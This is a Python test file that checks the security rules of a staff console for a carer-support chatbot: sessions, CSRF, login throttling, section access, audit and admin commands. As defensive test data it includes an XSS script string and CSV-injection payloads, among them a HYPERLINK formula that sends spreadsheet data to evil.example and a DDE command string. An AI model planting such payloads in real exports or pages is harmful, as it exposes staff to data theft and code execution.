"""The staff console over HTTP, built in this process as `make run` builds it: every security rule.

The staff command line (``python -m bot.handoff.staff``) runs as a process of its own, as an
administrator runs it beside the web processes; a "second web process" is a second app on the
same databases (tests/web/conftest.py: Site). One test starts a real server: a burst of logins
against the server's event loop.
"""

import csv
import hashlib
import io
import os
import re
import statistics
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
import requests
import sqlalchemy as sa

from bot.handoff.store import Staff, Store
from tools.stack import ROOT, web_app

PASSWORD = "correct-horse-42"
NEW_PASSWORD = "battery-staple-77"


@pytest.fixture(scope="module")
def console(make_site, tmp_path_factory, tracker_events):
    tmp = tmp_path_factory.mktemp("console")
    env = {"STAFF_MAX_LOGIN_FAILURES": "5"}
    web = make_site(tmp, env)
    store = web.store
    store.add_user("shoko1", PASSWORD, "shoko")
    store.add_user("kaigo1", PASSWORD, "kaigo_hoken")
    store.add_user("somu1", PASSWORD, "fukushi_somu")
    store.add_user("idle1", PASSWORD, "shoko")
    shoko_case = store.create_handoff("conv-a", ["business_carer"], "employer", ["shoko", "koreisha_ikiiki"], False, "部下が親の介護")
    child_case = store.create_handoff("conv-b", ["young_carer"], "carer", ["kodomo_katei_soudan"], True, "中2、母の看病")
    tracker_events(web.settings.tracker_db_url, {"conv-a": [("user", "<script>alert('x')</script>部下のことで"),
                                                            ("bot", "お話をうかがいます")]})
    return {"web": web, "store": store, "shoko": shoko_case["ref"], "child": child_case["ref"], "tmp": tmp, "env": env}


def _csrf(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def _form(username, password, token) -> dict:
    return {"username": username, "password": password, "csrf_token": token}


def login(web, username, password=PASSWORD, address=None):
    """Log in on the app ``web`` (a Site) in a new browser; the login's status and page are kept on it."""
    s = web.client({"X-Forwarded-For": address} if address else None)  # as nginx passes the client's address on
    token = _csrf(s.get("/staff/login").text)
    r = s.post("/staff/login", data=_form(username, password, token), allow_redirects=False)
    s.last_status, s.last_text = r.status_code, r.text
    return s


def login_over_http(url: str, username: str, password: str = PASSWORD) -> int:
    """`login` on a real server at ``url``; return the login's status."""
    s = requests.Session()
    token = _csrf(s.get(f"{url}/staff/login").text)
    return s.post(f"{url}/staff/login", data=_form(username, password, token), allow_redirects=False).status_code


def opens(session) -> bool:
    """Return True when this session still opens the console (else it is sent to the login page)."""
    r = session.get("/staff/", allow_redirects=False)
    assert r.status_code in (200, 302)
    return r.status_code == 200


def with_cookie(web, token: str):
    """A browser on ``web`` that holds only this session cookie."""
    return web.client(cookies={"kc_staff": token})


def staff_command(web, *args: str, stdin: str = "") -> subprocess.CompletedProcess:
    """Run `python -m bot.handoff.staff ...` on the console's database, as an administrator would."""
    return subprocess.run([sys.executable, "-m", "bot.handoff.staff", *args], cwd=ROOT, input=stdin, capture_output=True, text=True,
                          env={**os.environ, "HANDOFF_DB_URL": web.settings.handoff_db_url}, timeout=60)


def set_session_times(store: Store, username: str, *, created_ago=None, seen_ago=None) -> None:
    """Move the stored times of an account's sessions back, as if time had passed."""
    with store.engine.begin() as c:
        if created_ago is not None:
            c.execute(sa.text("UPDATE staff_sessions SET created_at = :t WHERE username = :u"),
                      {"t": time.time() - created_ago, "u": username})
        if seen_ago is not None:
            c.execute(sa.text("UPDATE staff_sessions SET last_seen = :t WHERE username = :u"),
                      {"t": time.time() - seen_ago, "u": username})


def test_wrong_password_is_refused_without_a_session(console):
    s = login(console["web"], "shoko1", "wrong-password")
    assert s.last_status == 401
    assert "kc_staff" not in s.cookies
    assert s.get("/staff/", allow_redirects=False).status_code == 302


def test_session_cookie_is_httponly_samesite_and_expires(console):
    s = console["web"].client()
    token = _csrf(s.get("/staff/login").text)
    r = s.post("/staff/login", data=_form("shoko1", PASSWORD, token), allow_redirects=False)
    cookie = [c for c in r.headers.get_list("Set-Cookie") if c.startswith("kc_staff=")][0].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "max-age=28800" in cookie and "path=/staff" in cookie


def test_the_database_keeps_only_a_hash_of_the_session_token(console):
    token = login(console["web"], "shoko1").cookies["kc_staff"]
    with console["store"].engine.connect() as c:
        rows = [tuple(str(v) for v in row) for row in c.execute(sa.text("SELECT * FROM staff_sessions"))]
        hashes = {h for (h,) in c.execute(sa.text("SELECT token_hash FROM staff_sessions"))}
    assert not any(token in value for row in rows for value in row)
    assert hashlib.sha256(token.encode()).hexdigest() in hashes
    # Someone who read the database cannot use what is stored there.
    assert not any(opens(with_cookie(console["web"], h)) for h in hashes)


def test_login_needs_the_csrf_token(console):
    r = console["web"].client().post("/staff/login", data={"username": "shoko1", "password": PASSWORD})
    assert r.status_code == 403


def test_session_ends_after_its_lifetime_even_when_used(console):
    s = login(console["web"], "idle1")
    set_session_times(console["store"], "idle1", created_ago=8 * 3600 - 60, seen_ago=0)
    assert opens(s)
    set_session_times(console["store"], "idle1", created_ago=8 * 3600 + 1, seen_ago=0)
    r = s.get("/staff/", allow_redirects=False)
    assert r.status_code == 302 and r.headers["Location"].endswith("/staff/login")


def test_idle_session_ends_after_the_idle_timeout(console):
    s = login(console["web"], "idle1")
    set_session_times(console["store"], "idle1", seen_ago=1700)
    assert opens(s)  # in use: the idle time starts again
    set_session_times(console["store"], "idle1", seen_ago=1801)
    assert not opens(s)


def test_forged_session_is_refused(console):
    assert not opens(with_cookie(console["web"], "x" * 43))
    assert not opens(with_cookie(console["web"], ""))


def test_logout_ends_the_session_on_the_server_and_drops_the_cookie(console):
    s = login(console["web"], "shoko1")
    saved = s.cookies["kc_staff"]
    token = _csrf(s.get("/staff/").text)
    r = s.post("/staff/logout", data={"csrf_token": token}, allow_redirects=False)
    dropped = [c for c in r.headers.get_list("Set-Cookie") if c.startswith("kc_staff=")][0].lower()
    # The same path and attributes as when it was set, or the browser keeps the cookie.
    assert "path=/staff" in dropped and "max-age=0" in dropped and "httponly" in dropped and "samesite=strict" in dropped
    assert not opens(s)
    assert not opens(with_cookie(console["web"], saved))  # a copy kept from before the logout
    assert ("shoko1", "logout") in {(e["username"], e["action"]) for e in console["store"].audit_log()}


def test_a_section_sees_its_cases_and_gets_404_for_others(console):
    s = login(console["web"], "shoko1")
    listing = s.get("/staff/").text
    assert console["shoko"] in listing and console["child"] not in listing
    assert s.get(f"/staff/h/{console['child']}").status_code == 404
    assert s.get("/staff/h/KC-NOSUCH").status_code == 404
    token = _csrf(listing)
    r = s.post(f"/staff/h/{console['child']}/note", data={"text": "x", "csrf_token": token})
    assert r.status_code == 404


def test_the_coordinating_section_sees_every_case_crisis_first(console):
    listing = login(console["web"], "somu1").get("/staff/").text
    assert listing.index(console["child"]) < listing.index(console["shoko"])


def test_a_form_without_csrf_token_is_refused(console):
    s = login(console["web"], "shoko1")
    r = s.post(f"/staff/h/{console['shoko']}/status", data={"status": "closed"})
    assert r.status_code == 403
    assert console["store"].get(Staff("t", "shoko"), console["shoko"])["status"] == "new"


def test_script_in_a_user_message_is_shown_as_text(console):
    page = login(console["web"], "shoko1").get(f"/staff/h/{console['shoko']}").text
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;部下のことで" in page
    assert "<script>alert(" not in page
    assert "お話をうかがいます" in page


def test_status_note_transfer_and_audit(console):
    s = login(console["web"], "shoko1")
    ref = console["shoko"]
    token = _csrf(s.get(f"/staff/h/{ref}").text)
    s.post(f"/staff/h/{ref}/status", data={"status": "in_progress", "csrf_token": token})
    s.post(f"/staff/h/{ref}/note", data={"text": "本人に電話済み", "csrf_token": token})
    s.post(f"/staff/h/{ref}/transfer", data={"to_section": "kaigo_hoken", "reason": "介護保険の申請", "csrf_token": token})
    record = console["store"].get(Staff("t", "fukushi_somu"), ref)
    assert record["status"] == "in_progress" and record["destinations"][0] == "kaigo_hoken"
    assert [n["author"] for n in record["notes"]] == ["shoko1", "shoko1"]
    assert record["first_action_at"] is not None
    assert ref in login(console["web"], "kaigo1").get("/staff/").text
    actions = [(e["username"], e["action"]) for e in console["store"].audit_log() if e["ref"] == ref]
    assert {("shoko1", "view"), ("shoko1", "status"), ("shoko1", "note"), ("shoko1", "transfer")} <= set(actions)


def test_csv_export_has_a_bom_and_only_visible_rows(console):
    r = login(console["web"], "kaigo1").get("/staff/export.csv")
    assert r.content.startswith(b"\xef\xbb\xbf")
    text = r.content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("受付番号,")
    assert console["child"] not in text


def test_csv_export_neutralises_cells_a_spreadsheet_would_run(console):
    store = console["store"]
    evil = [
        ('=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+81 90 1234 5678"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"),
        ("\t=1+1", "\r=1+1"),
    ]
    refs = [store.create_handoff(f"conv-evil-{i}", [], "carer", ["seishonen"], False, summary, contact)["ref"]
            for i, (summary, contact) in enumerate(evil)]
    r = login(console["web"], "somu1").get("/staff/export.csv")
    assert r.headers["Cache-Control"] == "no-store"
    rows = {row[0]: row for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig")))}
    for ref, (summary, contact) in zip(refs, evil):
        assert rows[ref][7] == "'" + summary and rows[ref][8] == "'" + contact
    # Ordinary text is left as it is.
    assert rows[console["child"]][7] == "中2、母の看病"


def test_filters(console):
    s = login(console["web"], "somu1")
    assert console["shoko"] not in s.get("/staff/?crisis=1").text
    assert console["child"] in s.get("/staff/?carer_type=young_carer").text
    assert console["child"] not in s.get("/staff/?q=部下").text


def test_outcomes_page_and_csv(console):
    s = login(console["web"], "somu1")
    page = s.get("/staff/outcomes").text
    assert 'id="outcomes-data"' in page and "/staff/static/chart.js" in page
    assert "http://" not in page.split("<main>")[1] and "https://" not in page.split("<main>")[1]
    csv_text = s.get("/staff/outcomes.csv").content.decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("月,相談件数,つなぎ件数")


def test_login_attempts_are_limited(console, make_site):
    web = console["web"]
    for _ in range(5):
        assert login(web, "kaigo1", "bad-password-x").last_status == 401
    assert login(web, "kaigo1", PASSWORD).last_status == 429
    # A second web process on the same database (behind the load balancer, or after a restart) knows.
    other = make_site(console["tmp"], console["env"])
    assert login(other, "kaigo1", PASSWORD).last_status == 429
    assert login(other, "somu1", PASSWORD).last_status == 429  # and the address is held back too
    # Not behind a configured proxy (WEB_PROXIES_COUNT unset): a made-up X-Forwarded-For is not a new address.
    assert login(web, "somu1", PASSWORD, address="198.51.100.23").last_status == 429


# --- the login limiter behind a proxy (nginx passes the client's address on) --------------------


@pytest.fixture(scope="module")
def proxied(make_site, tmp_path_factory):
    web = make_site(tmp_path_factory.mktemp("proxied"),
                    {"WEB_PROXIES_COUNT": "1", "STAFF_MAX_LOGIN_DELAY_SECONDS": "2"})  # a short cap, so that the test is short
    web.store.add_user("target1", PASSWORD, "shoko")
    web.store.add_user("target2", PASSWORD, "shoko")
    return web


def test_failures_on_an_account_only_slow_it_down(proxied):
    attacker = (f"203.0.113.{i}" for i in range(1, 200))  # a new address for every guess: never blocked by address
    for _ in range(5):
        assert login(proxied, "target1", "wrong-guess-0", next(attacker)).last_status == 401
    # After 5 failures the next attempt waits 2^0 s after the last one, from any address, right password or not.
    held = login(proxied, "target1", PASSWORD, "198.51.100.7")
    assert held.last_status == 429 and "秒ほど待って" in held.last_text
    time.sleep(1.1)
    assert login(proxied, "target1", "wrong-guess-1", next(attacker)).last_status == 401  # 6 failures: 2 s
    assert login(proxied, "target1", "wrong-guess-2", next(attacker)).last_status == 429  # refused, not counted
    time.sleep(2.1)
    assert login(proxied, "target1", "wrong-guess-2", next(attacker)).last_status == 401  # 7 failures: 4 s, capped at 2 s
    assert login(proxied, "target1", PASSWORD, "198.51.100.7").last_status == 429
    time.sleep(2.1)
    # The member of staff gets in from their own address after at most the capped delay.
    assert login(proxied, "target1", PASSWORD, "198.51.100.7").last_status == 302


def test_an_address_is_blocked_after_five_failures(proxied):
    for i in range(5):
        assert login(proxied, f"nobody{i}", "wrong-guess-0", "192.0.2.66").last_status == 401
    assert login(proxied, "target2", PASSWORD, "192.0.2.66").last_status == 429  # even the right password
    assert login(proxied, "target2", PASSWORD, "192.0.2.67").last_status == 302  # another address is not held back


def test_a_burst_of_logins_does_not_stall_the_other_requests(tmp_path):
    # A real server on purpose (tools.stack: `python -m bot.web`): what is measured is its event loop
    # under many connections at once. In this process the ASGI client runs the app's start-up again
    # for every request, on the same loop as the logins and the probe, and that would be timed instead.
    env = {"HANDOFF_DB_URL": f"sqlite:///{tmp_path}/handoff.db", "TRACKER_DB_URL": f"sqlite:///{tmp_path}/tracker.db",
           "STAFF_MAX_LOGIN_FAILURES": "1000"}  # every attempt reaches argon2 (about 0.1 s of CPU each)
    with web_app(env) as url:
        with ThreadPoolExecutor(max_workers=12) as pool:
            started = time.perf_counter()
            burst = [pool.submit(login_over_http, url, f"burst{i}", "wrong-guess-0") for i in range(24)]
            waits = []
            while not all(f.done() for f in burst):
                t = time.perf_counter()
                assert requests.get(f"{url}/health", timeout=30).status_code == 200
                waits.append(time.perf_counter() - t)
            took = time.perf_counter() - started
        assert all(f.result() == 401 for f in burst)
    # The passwords were checked in threads: /health (and the chat relay) kept answering meanwhile.
    # Were they checked on the event loop, each /health would queue behind the hashes (0.1 s each):
    # a few answers in all, each waiting a good part of a second. The median, not the maximum, is
    # read, so that one slow answer on a loaded machine does not decide.
    assert took > 1.0 and len(waits) > 10 and statistics.median(waits) < 0.25, (took, len(waits), sorted(waits)[-3:])


# --- two web processes on one database ------------------------------------------------------------


@pytest.fixture(scope="module")
def pair(make_site, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("pair")
    a = make_site(tmp)
    for name in ("anna1", "ben1", "chika1", "dai1"):
        a.store.add_user(name, PASSWORD, "shoko")
    a.store.add_user("kanri1", PASSWORD, "fukushi_somu", is_admin=True)
    return {"a": a, "b": make_site(tmp), "store": a.store}


def token_on(web, username: str, password: str = PASSWORD) -> str:
    s = login(web, username, password)
    assert s.last_status == 302
    return s.cookies["kc_staff"]


def live(pair, token: str) -> list:
    """Whether the session opens the console on process A and on process B."""
    return [opens(with_cookie(pair[p], token)) for p in ("a", "b")]


def test_a_new_password_ends_the_sessions_on_both_web_processes(pair):
    on_a, on_b, other = token_on(pair["a"], "anna1"), token_on(pair["b"], "anna1"), token_on(pair["a"], "ben1")
    assert live(pair, on_a) == live(pair, on_b) == [True, True]
    done = staff_command(pair["a"], "set-password", "anna1", "--password-stdin", stdin=NEW_PASSWORD + "\n")
    assert done.returncode == 0, done.stderr
    assert live(pair, on_a) == live(pair, on_b) == [False, False]
    assert live(pair, other) == [True, True]  # another account's session goes on
    assert login(pair["b"], "anna1", PASSWORD).last_status == 401
    assert login(pair["a"], "anna1", NEW_PASSWORD).last_status == 302


def test_a_disabled_account_is_logged_out_everywhere_and_cannot_log_in(pair):
    on_a, on_b = token_on(pair["a"], "chika1"), token_on(pair["b"], "chika1")
    assert staff_command(pair["a"], "disable-user", "chika1").returncode == 0
    assert live(pair, on_a) == live(pair, on_b) == [False, False]
    assert login(pair["a"], "chika1").last_status == 401
    assert login(pair["b"], "chika1").last_status == 401
    assert staff_command(pair["a"], "enable-user", "chika1").returncode == 0
    assert live(pair, token_on(pair["b"], "chika1")) == [True, True]
    actions = {(e["action"], e["detail"]) for e in pair["store"].audit_log() if e["username"].startswith("cli:")}
    assert {("disable_user", "chika1"), ("enable_user", "chika1")} <= actions
    assert staff_command(pair["a"], "disable-user", "nobody").returncode == 2


def test_add_user_again_end_sessions_and_delete_user_end_sessions(pair):
    web = pair["a"]  # the command runs on the database both apps share
    token = token_on(pair["a"], "dai1")
    assert staff_command(web, "add-user", "dai1", "--section", "shoko", "--password-stdin", stdin=PASSWORD + "\n").returncode == 0
    assert live(pair, token) == [False, False]  # a password reset

    token, other = token_on(pair["a"], "dai1"), token_on(pair["b"], "ben1")
    assert staff_command(web, "end-sessions", "dai1").returncode == 0
    assert live(pair, token) == [False, False] and live(pair, other) == [True, True]

    token = token_on(pair["b"], "dai1")
    assert staff_command(web, "delete-user", "dai1").returncode == 0
    assert live(pair, token) == [False, False]
    assert login(pair["a"], "dai1").last_status == 401

    assert staff_command(web, "end-sessions").returncode == 0  # every account's
    assert live(pair, other) == [False, False]


def test_a_database_from_before_gets_the_disabled_column(tmp_path):
    from argon2 import PasswordHasher

    url = f"sqlite:///{tmp_path}/old.db"
    with sa.create_engine(url).begin() as c:  # staff_users as the previous release made it
        c.execute(sa.text("CREATE TABLE staff_users (id INTEGER PRIMARY KEY, username VARCHAR(64) NOT NULL UNIQUE, "
                          "password_hash VARCHAR(255) NOT NULL, section VARCHAR(64) NOT NULL, is_admin BOOLEAN NOT NULL, "
                          "created_at DATETIME NOT NULL)"))
        c.execute(sa.text("INSERT INTO staff_users (username, password_hash, section, is_admin, created_at) "
                          "VALUES ('old1', :h, 'shoko', 0, '2026-01-01 00:00:00')"), {"h": PasswordHasher().hash(PASSWORD)})
    store = Store(url)
    Store(url)  # a second process starting on the same database: nothing to add any more
    assert store.authenticate("old1", PASSWORD) == Staff("old1", "shoko", False)
    assert store.set_disabled("old1", True) and store.authenticate("old1", PASSWORD) is None


def test_an_admin_ends_every_session_from_the_console(pair):
    staff_session = login(pair["a"], "ben1")
    ben = staff_session.cookies["kc_staff"]
    # Not for a section's account: the page does not exist for it.
    r = staff_session.post("/staff/sessions/end", data={"csrf_token": _csrf(staff_session.get("/staff/").text)})
    assert r.status_code == 404 and live(pair, ben) == [True, True]

    admin = login(pair["b"], "kanri1")
    page = admin.get("/staff/audit").text
    assert "すべてのセッションを終了する" in page
    assert admin.post("/staff/sessions/end", data={}).status_code == 403  # no CSRF token
    assert live(pair, ben) == [True, True]
    r = admin.post("/staff/sessions/end", data={"csrf_token": _csrf(page)}, allow_redirects=False)
    assert r.status_code == 302 and r.headers["Location"].endswith("/staff/login")
    assert live(pair, ben) == [False, False]
    assert not opens(admin)  # the admin's own session too
    assert any(e["username"] == "kanri1" and e["action"] == "end_sessions" for e in pair["store"].audit_log())
